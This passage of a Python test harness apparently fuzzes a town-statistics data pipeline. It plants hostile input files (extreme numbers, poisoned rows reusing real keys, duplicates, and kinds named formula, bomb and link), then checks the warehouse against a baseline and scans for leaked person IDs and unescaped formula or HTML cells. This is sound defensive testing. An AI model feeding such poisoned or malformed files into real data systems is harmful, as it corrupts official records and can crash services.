    elif sub == "all-blank-rows":
        t.rows = [["" for _ in t.header] for _ in range(100)]
        data = render(t, fmt)
    elif sub == "only-totals":
        t.rows = [["合计"] + ["" for _ in t.header[1:]] for _ in range(3)]
        data = render(t, fmt)
    elif sub == "header-twice":
        t.rows = [list(t.header)] + t.rows + [list(t.header)]
        data = render(t, fmt)
    else:  # numbers-extreme: otherwise valid rows with extreme or non-finite numbers
        for row in t.rows:
            for j, k in enumerate(t.kinds):
                if k in ("money", "integer") and r.random() < 0.7:
                    row[j] = r.choice(["1e308", "9e307", "1.7976931348623157e308", "-1.7e308", "nan", "NaN",
                                       "inf", "-inf", "Infinity", "1e-320", "9" * 300, "9007199254740993",
                                       "999999999999999999999", "-0", "1e15", "8e15"])
        data = render(t, fmt)
        sub += "-" + fmt
    c.write(rel, data, "structure", sub, expect, poison)


def k_duplicate(c: Ctx) -> None:
    src, fmt = pick_source(c.rng), pick_fmt(c.rng)
    t = c.table(src, fmt == "xlsx")
    data = render(t, fmt)
    c.write(c.base(src) + os.fsencode(f"_dup_a{c.ext(fmt)}"), data, "duplicate", fmt)
    c.write(c.base(src) + os.fsencode(f"_dup_b{c.ext(fmt)}"), data, "duplicate", fmt, mtime=c.mtime + 1)


KINDS: dict[str, Callable[[Ctx], None]] = {
    "valid": k_valid, "flip": k_flip, "cut": k_cut, "insert": k_insert, "encoding": k_encoding,
    "random_cells": k_random_cells, "huge_cell": k_huge_cell, "formula": k_formula, "control": k_control,
    "swapped": k_swapped, "id_in_name": k_id_in_name, "odd_name": k_odd_name, "link": k_link,
    "special": k_special, "bomb": k_bomb, "structure": k_structure, "duplicate": k_duplicate,
}


def plan_kinds(n: int, seed: int) -> list[str]:
    """The kind of each hostile entry, deterministic from the seed: every kind at its share."""
    rng = random.Random(f"plan-{seed}")
    total = sum(KIND_WEIGHTS.values())
    kinds: list[str] = []
    for k, w in KIND_WEIGHTS.items():
        kinds += [k] * max(1, round(n * w / total))
    rng.shuffle(kinds)
    if len(kinds) < n:
        kinds += rng.choices(list(KIND_WEIGHTS), weights=list(KIND_WEIGHTS.values()), k=n - len(kinds))
    return kinds[:n]


# ====================================================================== control area

@dataclass
class Control:
    raw: Path
    ids: set[str]  # the control area's person IDs (normalised), all that read as IDs
    years: set[int] = field(default_factory=set)
    counties: set[str] = field(default_factory=set)
    usccs: set[str] = field(default_factory=set)
    paths: set[str] = field(default_factory=set)
    file_ids: set[str] = field(default_factory=set)
    max_mtime: float = 0.0
    poison: Poison = field(default_factory=Poison)
    a_file: str = ""


def tiny_spec(_scale: str, _fraction: float = 1.0):
    from pipelines.demo.spec import ScaleSpec

    return ScaleSpec("county", ("140823",), 40, 300, 400, 40, 30, 60, 300, 0, 0)


def write_control(raw: Path, scale: str, seed: int) -> None:
    """The demo generator's area: county scale, or `tiny` (the same generator, 40 reporters)."""
    from pipelines.demo import area

    if scale == "tiny":
        saved = area.scale_spec
        area.scale_spec = tiny_spec
        try:
            area.write_demo_raw_area(raw, scale="county", seed=seed)
        finally:
            area.scale_spec = saved
    else:
        area.write_demo_raw_area(raw, scale=scale, seed=seed)


def prepare_control(work: Path, scale: str, seed: int, control_dir: Path | None = None) -> Path:
    if control_dir is not None:
        return control_dir
    raw = work / f"control-{scale}-{seed}" / "raw"
    done = raw.parent / "written"
    if not done.exists():
        if raw.parent.exists():
            shutil.rmtree(raw.parent)
        say(f"writing the control area ({scale}, seed {seed}) into {raw}")
        write_control(raw, scale, seed)
        done.write_text("ok")
    return raw


def control_person_ids(raw: Path) -> set[str]:
    """Every person_id cell of the control's enrolment files that reads as an ID, normalised."""
    from pipelines.ingest.readers import read_cells
    from schemas.columns import EMPLOYMENT

    ids: set[str] = set()
    for p in sorted((raw / "employment").rglob("*")):
        if not p.is_file() or p.is_symlink() or p.suffix.lower() not in (".csv", ".xlsx"):
            continue
        if p.name.startswith((".", "~$")):
            continue
        try:
            table = read_cells(p, EMPLOYMENT)
        except Exception:  # noqa: BLE001 - a decoy file of the demo
            continue
        for v in table.frame["person_id"].drop_nulls().to_list():
            n = normalise_id(str(v))
            if ID_SHAPE.match(n):
                ids.add(n)
    return ids


def _text(b: bytes) -> str:
    return b.decode("utf-8", "surrogateescape")


def read_rows(db: Path, table: str) -> tuple[list[str], list[tuple]]:
    con = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    con.text_factory = _text
    try:
        cur = con.execute(f'SELECT * FROM "{table}"')
        cols = [d[0] for d in cur.description]
        return cols, cur.fetchall()
    except sqlite3.OperationalError:
        return [], []
    finally:
        con.close()


def describe_control(ctl: Control, db: Path) -> None:
    """Years, counties, USCCs and files of the control area, from the baseline warehouse."""
    cols, rows = read_rows(db, "fact_enterprise_year")
    ent = [dict(zip(cols, r, strict=True)) for r in rows]
    ctl.years = {int(e["year"]) for e in ent}
    for t, c in (("fact_tax_month", "period"), ("fact_employment_month", "period")):
        cols, rows = read_rows(db, t)
        i = cols.index(c)
        ctl.years |= {int(str(r[i])[:4]) for r in rows}
    cols, rows = read_rows(db, "ind_town_year")
    ctl.counties = {str(r[cols.index("town_code")])[:6] for r in rows}
    for t, cs in (("fact_enterprise_year", ["uscc"]), ("fact_tax_month", ["uscc"]),
                  ("fact_employment_month", ["employer_uscc"]), ("fact_market_entity", ["uscc"])):
        cols, rows = read_rows(db, t)
        for c in cs:
            ctl.usccs |= {r[cols.index(c)] for r in rows}
    cols, rows = read_rows(db, "dq_file")
    ctl.paths = {r[cols.index("path")] for r in rows}
    ctl.file_ids = {r[cols.index("file_id")] for r in rows}
    assert HOSTILE_COUNTY not in ctl.counties, "the hostile county is the control's"
    assert HOSTILE_YEAR not in ctl.years, "the hostile year is the control's"
    # poison: the control's keys with other values
    cols, rows = read_rows(db, "fact_tax_month")
    tax = [dict(zip(cols, r, strict=True)) for r in rows[:40]]
    ctl.poison.tax = "所属期,纳税人识别号,增值税,税收合计\n" + "".join(
        f"{t['period']},{t['uscc']},987654.32,987654.32\n" for t in tax)
    ctl.poison.enterprise = ("统计年度,统一社会信用代码,单位详细名称,乡镇代码,行业代码,工业总产值(元),营业收入(元),"
                             "从业人员期末人数\n" + "".join(
                                 f"{e['year']},{e['uscc']},投毒企业,{e['town_code']},{e['industry_code']},"
                                 f"123456789,123456789,4321\n" for e in ent[:40]))
    cols, rows = read_rows(db, "fact_market_entity")
    reg = [dict(zip(cols, r, strict=True)) for r in rows[:40]]
    etype = {"enterprise": "企业", "individual": "个体工商户", "cooperative": "农民专业合作社"}
    ctl.poison.registry = "统一社会信用代码,名称,市场主体类型,乡镇代码,行业代码,成立日期\n" + "".join(
        f"{g['uscc']},投毒主体,{etype.get(g['entity_type'], '企业')},{g['town_code']},{g['industry_code']},"
        f"{str(g['established'])[:10]}\n" for g in reg)
    cols, rows = read_rows(db, "dim_town")
    towns = [dict(zip(cols, r, strict=True)) for r in rows if str(r[cols.index("town_code")]).startswith(HOSTILE_COUNTY)]
    head = ["town_code", "town_name", "county_code", "county_name", "city_code", "city_name", "province_code",
            "province_name"]
    ctl.poison.towns = ",".join(head) + "\n" + "".join(",".join(str(t.get(h, "")) for h in head) + "\n" for t in towns)
    ctl.poison.specialty = ("id,name,county_code,host_town_codes,category,heritage,national_market,"
                            "core_industry_codes,supporting_industry_codes\n"
                            f"poison-1,投毒专业镇,{sorted(ctl.counties)[0]},,manufacturing,否,否,3054,3055\n")
    mt = 0.0
    first = ""
    for p in ctl.raw.rglob("*"):
        if p.is_file() and not p.is_symlink():
            mt = max(mt, p.stat().st_mtime)
            if not first and p.suffix == ".csv" and "tax" in p.parts:
                first = str(p)
    ctl.max_mtime = mt
    ctl.a_file = first


# ====================================================================== comparing with the baseline

def _canon(v: object) -> object:
    if isinstance(v, float):
        if v != v:
            return "nan"
        return float(f"{v:.12g}")
    return v


def domain_filters(ctl: Control) -> dict[str, Callable[[dict], bool]]:
    years = {int(y) for y in ctl.years}
    ys = {str(y) for y in years}

    def year_ok(v) -> bool:
        return v is not None and str(v)[:4] in ys

    def flag_ok(r: dict) -> bool:
        parts = str(r.get("key", "")).split("|")
        if parts and re.match(r"^\d{4}", parts[0]) and parts[0][:4] not in ys:
            return False
        return any(p in ctl.usccs for p in parts)

    def county(v) -> bool:
        return v is not None and str(v)[:6] in ctl.counties

    return {
        "dim_town": lambda r: True,
        "dim_specialty_town": lambda r: True,
        "fact_enterprise_year": lambda r: year_ok(r["year"]),
        "fact_tax_month": lambda r: year_ok(r["period"]),
        "fact_employment_month": lambda r: year_ok(r["period"]),
        "fact_market_entity": lambda r: r["uscc"] in ctl.usccs,
        "ind_town_year": lambda r: year_ok(r["year"]) and county(r["town_code"]),
        "pub_town_year": lambda r: year_ok(r["year"]) and county(r["town_code"]),
        "ind_specialty_town_year": lambda r: year_ok(r["year"]),
        "eval_criterion": lambda r: year_ok(r["year"]),
        "eval_specialty_town": lambda r: year_ok(r["year"]),
        "eval_gap": lambda r: year_ok(r["year"]),
        "eval_target": lambda r: year_ok(r["year"]) and (county(r.get("id")) or str(r.get("id", "")).startswith(
            tuple(ctl.counties))),
        "dq_file": lambda r: r["path"] in ctl.paths,
        "dq_rejected_row": lambda r: r["file_id"] in ctl.file_ids,
        "dq_flag": flag_ok,
    }


def snapshot(db: Path, ctl: Control) -> dict[str, collections.Counter]:
    out: dict[str, collections.Counter] = {}
    filters = domain_filters(ctl)
    for t in CONTRACT_TABLES:
        cols, rows = read_rows(db, t)
        keep = filters[t]
        cnt: collections.Counter = collections.Counter()
        for r in rows:
            d = dict(zip(cols, r, strict=True))
            if keep(d):
                cnt[tuple(_canon(v) for v in r)] += 1
        out[t] = cnt
    return out


def compare(base: dict[str, collections.Counter], now: dict[str, collections.Counter]) -> dict[str, dict]:
    diff = {}
    for t, b in base.items():
        n = now.get(t, collections.Counter())
        lost = b - n
        extra = n - b
        if lost or extra:
            diff[t] = {"lost": sum(lost.values()), "extra": sum(extra.values()),
                       "lost_examples": [mask_text(repr(x))[:300] for x in list(lost)[:3]],
                       "extra_examples": [mask_text(repr(x))[:300] for x in list(extra)[:3]]}
    return diff


# ====================================================================== scanning for person IDs

RUN_ASCII = re.compile(rb"[0-9]{15,}[Xx]?")
RUN_FULL = re.compile(rb"(?:\xef\xbc[\x90-\x99]){15,}(?:\xef\xbc\xb8|\xef\xbd\x98)?")
SHAPE_TEXT = re.compile(r"(?<![0-9０-９])(?:[0-9０-９]{17}[0-9０-９XxＸｘ]|[0-9０-９]{15})(?![0-9０-９])")
SEPARATED = re.compile(r"[0-9０-９](?:[ \-_.·/\u3000]{0,2}[0-9０-９]){14,17}(?:[ \-_.·\u3000]{0,2}[0-9０-９XxＸｘ])?")
CONTROL_CHARS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def mask_text(s: str) -> str:
    return SHAPE_TEXT.sub("<ID>", s)


@dataclass
class IdIndex:
    ids18: set[bytes]
    ids15: set[bytes]

    @classmethod
    def of(cls, ids: Iterable[str]) -> IdIndex:
        i18, i15 = set(), set()
        for x in ids:
            (i18 if len(x) == 18 else i15).add(x.encode())
        return cls(i18, i15)

    def _windows(self, s: bytes) -> list[bytes]:
        hits = []
        s = s.upper()
        for i in range(0, len(s) - 14):
            w = s[i:i + 18]
            if len(w) == 18 and w in self.ids18:
                hits.append(w)
            if s[i:i + 15] in self.ids15:
                hits.append(s[i:i + 15])
        return hits

    def find(self, data: bytes) -> list[bytes]:
        hits = []
        for m in RUN_ASCII.finditer(data):
            hits += self._windows(m.group())
        for m in RUN_FULL.finditer(data):
            hits += self._windows(m.group().decode("utf-8").translate(ASCII_DIGITS).encode())
        return hits

    def find_number(self, v: float | int) -> bool:
        """A number that is a known ID: a 15-digit one exactly, an 18-digit one (no X) within the
        precision of a double (at 1.4e17 a double is exact to 16: the first 16 digits stand, and
        the check digit narrows the rest to a few candidates)."""
        if not 1e14 <= abs(v) < 1e18:
            return False
        if not hasattr(self, "_numbers"):
            self._numbers = sorted(int(x) for x in self.ids18 | self.ids15 if x.isdigit())
        n = abs(int(v))
        tol = 0 if isinstance(v, int) else max(1, int(math.ulp(float(v))))
        i = bisect.bisect_left(self._numbers, n - tol)
        return i < len(self._numbers) and self._numbers[i] <= n + tol

    def find_separated(self, text: str) -> list[bytes]:
        hits = []
        for m in SEPARATED.finditer(text):
            raw = m.group()
            if not re.search(r"[ \-_.·/\u3000]", raw):
                continue
            hits += self._windows(re.sub(r"[ \-_.·/\u3000]", "", raw).translate(ASCII_DIGITS).encode())
        return hits


def scan_file_bytes(path: Path, idx: IdIndex, chunk: int = 64 << 20) -> list[bytes]:
    hits: list[bytes] = []
    with open(path, "rb") as fh:
        tail = b""
        while True:
            block = fh.read(chunk)
            if not block:
                break
            data = tail + block
            hits += idx.find(data[: len(data) - 64] if len(block) == chunk else data)
            tail = data[len(data) - 64:] if len(block) == chunk else b""
    return hits


def scan_tree(root: Path, idx: IdIndex) -> dict[str, int]:
    """Known IDs in every file under root (xlsx and zip members unzipped, parquet read)."""
    found: dict[str, int] = {}
    if not root.exists():
        return found
    for p in sorted(root.rglob("*")):
        if not p.is_file() or p.is_symlink():
            continue
        hits: list[bytes] = []
        try:
            if p.suffix.lower() in (".xlsx", ".zip"):
                with zipfile.ZipFile(p) as zf:
                    for n in zf.namelist():
                        hits += idx.find(zf.read(n))
            elif p.suffix.lower() == ".parquet":
                import polars as pl

                df = pl.read_parquet(p)
                for c, dtype in df.schema.items():
                    if dtype == pl.String:
                        hits += idx.find("\n".join(v for v in df[c].drop_nulls().to_list()).encode("utf-8", "replace"))
            else:
                hits += scan_file_bytes(p, idx)
        except Exception as exc:  # noqa: BLE001 - a file being rewritten; say so
            found[f"{p.relative_to(root)} (unreadable: {type(exc).__name__})"] = 0
            continue
        if hits:
            found[str(p.relative_to(root))] = len(hits)
    return found


def scan_warehouse(db: Path, idx: IdIndex) -> dict:
    """Known IDs in the SQLite file's bytes and in every text column; ID-shaped tokens left in
    echoed columns; IDs written with separators; control characters."""
    out: dict = {"file_bytes": 0, "columns": {}, "echo_unmasked": {}, "separated": {}, "control_chars": {},
                 "numeric": {}, "examples": []}
    for suffix in ("", "-wal"):
        p = Path(str(db) + suffix)
        if p.exists():
            out["file_bytes"] += len(scan_file_bytes(p, idx))
    con = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    con.text_factory = _text
    out["invalid_utf8"] = {}
    try:
        tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        echoed = {("dq_rejected_row", "value"), ("dq_rejected_row", "message"), ("dq_file", "path"),
                  ("dq_file", "message"), ("dq_flag", "detail")}
        for t in tables:
            cols = [r[1] for r in con.execute(f'PRAGMA table_info("{t}")')]
            for c in cols:
                n_id = n_echo = n_sep = n_ctl = n_bad = 0
                cur = con.execute(f'SELECT "{c}" FROM "{t}" WHERE typeof("{c}") = \'text\'')
                while True:
                    batch = cur.fetchmany(50_000)
                    if not batch:
                        break
                    for (v,) in batch:
                        if (t, c) in echoed and SHAPE_TEXT.search(v):
                            n_echo += 1
                            if len(out["examples"]) < 10:
                                out["examples"].append(f"{t}.{c}: {mask_text(v)[:160]}")
                        if CONTROL_CHARS.search(v):
                            n_ctl += 1
                        if re.search("[\udc80-\udcff]", v):
                            n_bad += 1
                    text = "\n".join(v for (v,) in batch)
                    n_id += len(idx.find(text.encode("utf-8", "surrogateescape")))
                    if t != "fact_employment_month":
                        n_sep += len(idx.find_separated(text))
                key = f"{t}.{c}"
                n_num = sum(1 for (v,) in con.execute(
                    f'SELECT "{c}" FROM "{t}" WHERE typeof("{c}") IN (\'real\', \'integer\') '
                    f'AND abs("{c}") >= 1e14 AND abs("{c}") < 1e18') if idx.find_number(v))
                if n_num:
                    out["numeric"][key] = n_num
                if n_id:
                    out["columns"][key] = n_id
                if n_echo:
                    out["echo_unmasked"][key] = n_echo
                if n_sep:
                    out["separated"][key] = n_sep
                if n_ctl:
                    out["control_chars"][key] = n_ctl
                if n_bad:
                    out["invalid_utf8"][key] = n_bad
    finally:
        con.close()
    return out


def report_safety(reports: Path) -> dict:
    """Formula cells and unescaped HTML in the reports written."""
    out = {"csv_formula_cells": 0, "xlsx_formulas": 0, "html_unescaped": 0, "files": []}
    if not reports.exists():
        return out
    for p in sorted(reports.rglob("*")):
        if not p.is_file():
            continue
        suf = p.suffix.lower()
        try:
            if suf == ".csv":
                with open(p, encoding="utf-8-sig", errors="replace", newline="") as fh:
                    for row in csv.reader(fh):
                        for cell in row:
                            if MARK_FORMULA in cell and cell[:1] in "=+-@":
                                out["csv_formula_cells"] += 1
            elif suf == ".xlsx":
                with zipfile.ZipFile(p) as zf:
                    for n in zf.namelist():
                        if n.startswith("xl/worksheets/"):
                            xml = zf.read(n)
                            out["xlsx_formulas"] += len(re.findall(rb"<f[ >]", xml))
            elif suf in (".html", ".htm"):
                text = p.read_text(encoding="utf-8", errors="replace")
                out["html_unescaped"] += text.count("<fuzz-tag")
        except Exception as exc:  # noqa: BLE001
            out["files"].append(f"{p.name}: unreadable ({type(exc).__name__})")
    return out


# ====================================================================== running a refresh

@dataclass
class Run:
    exit_code: int | None
    seconds: float
    maxrss_mb: float  # ru_maxrss of the child (the largest process of its tree)
    tree_rss_mb: float  # the sum over the process group, sampled
    stdout: str
    stderr: str
    timed_out: bool = False
    signal: int | None = None


def _group_rss_kb(pgid: int) -> int:
    total = 0
    page_kb = os.sysconf("SC_PAGE_SIZE") // 1024
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open(f"/proc/{d}/stat", "rb") as fh:
                fields = fh.read().rsplit(b")", 1)[1].split()
            if int(fields[2]) == pgid:
                total += int(fields[21]) * page_kb
        except (OSError, IndexError, ValueError):
            continue
    return total


def snapshot_code(work: Path, rev: str = "HEAD") -> Path:
    """The committed tree at `rev` unpacked under work (git archive): the refreshes then run code
    that does not change under them while others edit the checkout."""
    sha = subprocess.run(["git", "-C", str(ROOT), "rev-parse", "--short=12", rev], check=True,
                         capture_output=True, text=True).stdout.strip()
    dest = work / f"code-{sha}"
    if not (dest / "pipelines" / "cli.py").exists():
        dest.mkdir(parents=True, exist_ok=True)
        archive = subprocess.run(["git", "-C", str(ROOT), "archive", "--format=tar", sha], check=True,
                                 capture_output=True).stdout
        subprocess.run(["tar", "-x", "-C", str(dest)], input=archive, check=True)
    return dest


def refresh(raw: Path, db: Path, reports: Path, cache: Path, logs: Path, gx: bool, timeout: float,
            extra_env: dict[str, str] | None = None, code: Path = ROOT) -> Run:
    env = dict(os.environ)
    for k in ("DAGSTER_HOME", "TOWNSTAT_STAGING_DIR", "TOWNSTAT_SCRATCH_DIR", "TOWNSTAT_RAW_DIR", "WAREHOUSE_URL"):
        env.pop(k, None)
    env.update({"TOWNSTAT_REPORTS_DIR": str(reports), "TOWNSTAT_CACHE_DIR": str(cache),
                "TOWNSTAT_GX": "on" if gx else "off", "PYTHONUNBUFFERED": "1", "PYTHONPATH": str(code)})
    env.update(extra_env or {})
    logs.mkdir(parents=True, exist_ok=True)
    out_p, err_p = logs / "refresh.out", logs / "refresh.err"
    cmd = [sys.executable, "-m", "pipelines.cli", "refresh", "--raw", str(raw), "--warehouse", f"sqlite:///{db}"]
    t0 = time.monotonic()
    peak_tree = 0
    timed_out = False
    with open(out_p, "wb") as out, open(err_p, "wb") as err:
        proc = subprocess.Popen(cmd, cwd=code, env=env, stdout=out, stderr=err, stdin=subprocess.DEVNULL,
                                start_new_session=True)
        while True:
            pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
            if pid:
                break
            peak_tree = max(peak_tree, _group_rss_kb(proc.pid))
            if time.monotonic() - t0 > timeout:
                timed_out = True
                os.killpg(proc.pid, signal.SIGKILL)
                pid, status, usage = os.wait4(proc.pid, 0)
                break
            time.sleep(0.25)
        proc.returncode = 0  # reaped above; keep Popen from waiting again
    try:  # workers the refresh may have left behind: its own process group only
        os.killpg(proc.pid, signal.SIGKILL)
    except ProcessLookupError:
        pass
    seconds = time.monotonic() - t0
    sig = os.WTERMSIG(status) if os.WIFSIGNALED(status) else None
    code = os.waitstatus_to_exitcode(status)
    return Run(None if timed_out else code, seconds, usage.ru_maxrss / 1024, peak_tree / 1024,
               out_p.read_text(encoding="utf-8", errors="replace"),
               err_p.read_text(encoding="utf-8", errors="replace"), timed_out, sig)


def verdict(run: Run) -> tuple[str, list[str]]:
    """('ok' | 'blocked' | 'crash', reasons)."""
    checks = re.findall(r"failed check: (.+)", run.stdout)
    steps = re.findall(r"failed step: (.+)", run.stdout)
    after = re.findall(r"step failed after publication: (.+)", run.stdout)
    if run.timed_out:
        return "crash", ["timeout (hang): killed"]
    if run.exit_code == 0 and not after:
        return "ok", []
    if run.exit_code == 0:
        return "crash", [f"published, then a step failed: {s}" for s in after]
    if run.exit_code == 1 and checks and not steps:
        return "blocked", checks
    reasons = [f"exit {run.exit_code}" + (f" (signal {run.signal})" if run.signal else "")]
    reasons += [f"failed step: {s}" for s in steps] + [f"failed check: {s}" for s in checks]
    tb = re.findall(r"(\w+(?:Error|Exception)[^\n]{0,200})", run.stderr)
    if tb and not steps:
        reasons.append(tb[-1])
    return "crash", reasons


# ====================================================================== one batch

def link_control(src: Path, dst: Path) -> None:
    """A fresh copy of the control area: hard links (the refresh never writes the raw area)."""
    for folder, _dirs, files in os.walk(src):
        rel = Path(folder).relative_to(src)
        (dst / rel).mkdir(parents=True, exist_ok=True)
        for n in files:
            s = Path(folder) / n
            d = dst / rel / n
            if s.is_symlink():
                os.symlink(os.readlink(s), d)
                continue
            try:
                os.link(s, d)
            except OSError:
                shutil.copy2(s, d)


def plant(raw: Path, outside: Path, indexes: list[int], kinds: list[str], seed: int, ctl: Control,
          hostile_towns: list[str], industries: list[str], hukou: list[str], heavy: bool, bomb_mb: int,
          heavy_max: int) -> tuple[list[Planted], set[str], list[str]]:
    """Write the hostile entries of `indexes` into raw; (entries, planted IDs, generator errors)."""
    outside.mkdir(parents=True, exist_ok=True)
    state: dict = {"heavy": 0, "heavy_max": heavy_max,
                   "control_file": os.fsencode(os.path.relpath(ctl.a_file, ctl.raw)) if ctl.a_file else None}
    if state["control_file"] is not None:
        state["control_file"] = os.fsencode(str(raw)) + b"/" + state["control_file"]
    entries: list[Planted] = []
    planted: set[str] = set()
    errors: list[str] = []
    control_ids = sorted(ctl.ids)[:500]
    usccs = sorted(ctl.usccs)[:200]
    for i in indexes:
        rng = random.Random(f"{seed}-{i}")
        dom = Domain(rng, i, hostile_towns, industries, hukou, usccs)
        weird = rng.random() < 0.03
        mtime = ctl.max_mtime + 86_400 + i
        if weird:
            mtime = rng.choice([0, -2**31, 2**34, time.time() + 10 * 365 * 86400, 1.5e9 + 0.5, ctl.max_mtime - 86400 * 400])
        c = Ctx(i, rng, dom, raw, outside, ctl.poison, control_ids, heavy, bomb_mb, state, mtime=mtime)
        try:
            KINDS[kinds[i]](c)
        except Exception as exc:  # noqa: BLE001 - the generator's own failure: reported, the campaign goes on
            errors.append(f"#{i} {kinds[i]}: {type(exc).__name__}: {exc}"[:300])
        for e in c.out:
            if weird:
                e.sub += "+weird-mtime"
        entries += c.out
        planted |= dom.planted
    return entries, planted, errors


def shown(rel: bytes) -> str:
    """A relative path for our own output: bytes that are not UTF-8 as \\x escapes, IDs masked."""
    return mask_text(rel.decode("utf-8", "backslashreplace"))


def display_path(rel: bytes) -> str:
    from pipelines.echo import mask_ids
    from pipelines.ingest.inventory import display_relpath

    return mask_ids(display_relpath(os.fsdecode(rel))) or ""


def check_dq_file(db: Path, entries: list[Planted]) -> dict:
    """Each hostile entry's fate in dq_file against what the contract says it should be."""
    cols, rows = read_rows(db, "dq_file")
    by_path: dict[str, list[dict]] = collections.defaultdict(list)
    for r in rows:
        d = dict(zip(cols, r, strict=True))
        by_path[d["path"]].append(d)
    outcome: collections.Counter = collections.Counter()
    by_kind: dict[str, collections.Counter] = collections.defaultdict(collections.Counter)
    mismatches: list[str] = []
    hostile_ids: set[str] = set()
    for e in entries:
        p = display_path(e.rel)
        got = by_path.get(p, [])
        status = got[-1]["status"] if got else "absent"
        for g in got:
            hostile_ids.add(g["file_id"])
        by_kind[e.kind][status] += 1
        outcome[status] += 1
        problem = None
        if e.expect == "rejected" and status == "duplicate" and e.kind not in ("link", "special"):
            pass  # the same bytes as an earlier file (a bomb written twice): listed once, the later a duplicate
        elif e.expect == "rejected" and (status != "rejected" or not (got and got[-1]["message"])):
            problem = f"expected rejected with a message, got {status}"
        elif e.expect == "listed" and status == "absent":
            problem = "not listed in dq_file"
        elif e.expect in ("ignored", "unlisted") and status != "absent":
            problem = f"expected not listed, got {status}"
        if problem:
            mismatches.append(f"#{e.index} {e.kind}/{e.sub} {mask_text(p)[:120]!r}: {problem}")
    return {"by_kind": {k: dict(v) for k, v in by_kind.items()}, "outcome": dict(outcome),
            "mismatches": mismatches, "hostile_file_ids": sorted(hostile_ids)}


def hostile_rows_loaded(db: Path, file_ids: set[str]) -> int:
    n = 0
    for t in ("fact_enterprise_year", "fact_tax_month", "fact_employment_month", "fact_market_entity"):
        cols, rows = read_rows(db, t)
        if "source_file_id" in cols:
            i = cols.index("source_file_id")
            n += sum(1 for r in rows if r[i] in file_ids)
    return n


@dataclass
class Campaign:
    work: Path
    files: int = 10_000
    batch: int = 1_000
    seed: int = 12
    scale: str = "county"
    gx: bool = True
    heavy: bool = True
    bomb_mb: int = 256
    heavy_max: int = 2
    timeout: float = 1800.0
    keep: bool = False
    shared_cache: bool = True
    control_dir: Path | None = None
    warehouse_mode: str = "alternate"  # fresh | copy | alternate
    only_batches: list[int] | None = None
    code: Path = ROOT  # the checkout the refreshes run (a `git archive` snapshot with --code HEAD)


def run_campaign(cfg: Campaign, log: Callable[[str], None] = say) -> dict:
    from pipelines.reference import industry_classes, shipped_towns

    t_start = time.monotonic()
    work = cfg.work
    work.mkdir(parents=True, exist_ok=True)
    raw_control = prepare_control(work, cfg.scale, 7, cfg.control_dir)
    cache = work / "cache"
    base_dir = work / "baseline"
    if base_dir.exists():
        shutil.rmtree(base_dir)
    if cache.exists():  # a cold baseline; the batches then share the cache (the nightly case)
        shutil.rmtree(cache)
    log(f"baseline refresh of the control area {raw_control}")
    base_db = base_dir / "warehouse.sqlite"
    base_dir.mkdir(parents=True)
    log(f"refreshes run the code in {cfg.code}")
    base_run = refresh(raw_control, base_db, base_dir / "reports", cache if cfg.shared_cache else base_dir / "cache",
                       base_dir, cfg.gx, cfg.timeout, code=cfg.code)
    v, reasons = verdict(base_run)
    if v != "ok":
        raise SystemExit(f"the baseline refresh of the control area failed: {reasons}\n{base_run.stdout[-2000:]}")
    ctl = Control(raw_control, control_person_ids(raw_control))
    describe_control(ctl, base_db)
    base_snap = snapshot(base_db, ctl)
    log(f"baseline: {base_run.seconds:.0f}s, peak RSS {base_run.maxrss_mb:.0f} MB (tree {base_run.tree_rss_mb:.0f} MB); "
        f"control years {sorted(ctl.years)}, counties {sorted(ctl.counties)}, {len(ctl.ids):,} person IDs, "
        f"{sum(sum(c.values()) for c in base_snap.values()):,} control rows compared")
    base_idx = IdIndex.of(ctl.ids)
    base_scan = {"warehouse": scan_warehouse(base_db, base_idx), "reports": scan_tree(base_dir / "reports", base_idx),
                 "logs": len(base_idx.find((base_run.stdout + base_run.stderr).encode("utf-8", "replace"))),
                 "cache": scan_tree(cache if cfg.shared_cache else base_dir / "cache", base_idx)}

    towns = shipped_towns()
    hostile_towns = sorted(t for t in towns["town_code"].to_list() if t.startswith(HOSTILE_COUNTY))
    hukou = sorted(towns["town_code"].to_list())[::7]
    industries = sorted(industry_classes()["industry_code"].to_list())
    kinds = plan_kinds(cfg.files, cfg.seed)
    batches = [list(range(s, min(s + cfg.batch, cfg.files))) for s in range(0, cfg.files, cfg.batch)]
    results_path = work / "results.jsonl"
    results_path.unlink(missing_ok=True)
    all_planted: set[str] = set()
    results = []
    for b, indexes in enumerate(batches):
        if cfg.only_batches is not None and b not in cfg.only_batches:
            continue
        bdir = work / f"batch-{b:03d}"
        if bdir.exists():
            shutil.rmtree(bdir)
        raw = bdir / "raw"
        t0 = time.monotonic()
        link_control(raw_control, raw)
        entries, planted, gen_errors = plant(raw, bdir / "outside", indexes, kinds, cfg.seed, ctl, hostile_towns,
                                             industries, hukou, cfg.heavy, cfg.bomb_mb, cfg.heavy_max)
        all_planted |= planted
        gen_s = time.monotonic() - t0
        db = bdir / "warehouse.sqlite"
        mode = cfg.warehouse_mode if cfg.warehouse_mode != "alternate" else ("fresh" if b % 2 == 0 else "copy")
        if mode == "copy":
            shutil.copy2(base_db, db)
        log(f"batch {b}: {len(indexes)} hostile files ({len(entries)} entries) planted in {gen_s:.0f}s; "
            f"refreshing ({mode} warehouse)")
        run = refresh(raw, db, bdir / "reports", cache if cfg.shared_cache else bdir / "cache", bdir, cfg.gx,
                      cfg.timeout, code=cfg.code)
        v, reasons = verdict(run)
        idx = IdIndex.of(ctl.ids | all_planted)
        res: dict = {"batch": b, "first": indexes[0], "last": indexes[-1], "entries": len(entries),
                     "verdict": v, "reasons": reasons, "exit_code": run.exit_code, "seconds": round(run.seconds, 1),
                     "maxrss_mb": round(run.maxrss_mb), "tree_rss_mb": round(run.tree_rss_mb),
                     "warehouse": mode, "generator_errors": gen_errors,
                     "kinds": dict(collections.Counter(kinds[i] for i in indexes))}
        res["log_ids"] = len(idx.find((run.stdout + run.stderr).encode("utf-8", "replace")))
        if db.exists() and v in ("ok", "blocked"):
            snap = snapshot(db, ctl)
            res["diff"] = compare(base_snap, snap)
            res["rows_lost"] = sum(d["lost"] for d in res["diff"].values())
            res["rows_extra"] = sum(d["extra"] for d in res["diff"].values())
            res["dq"] = check_dq_file(db, entries)
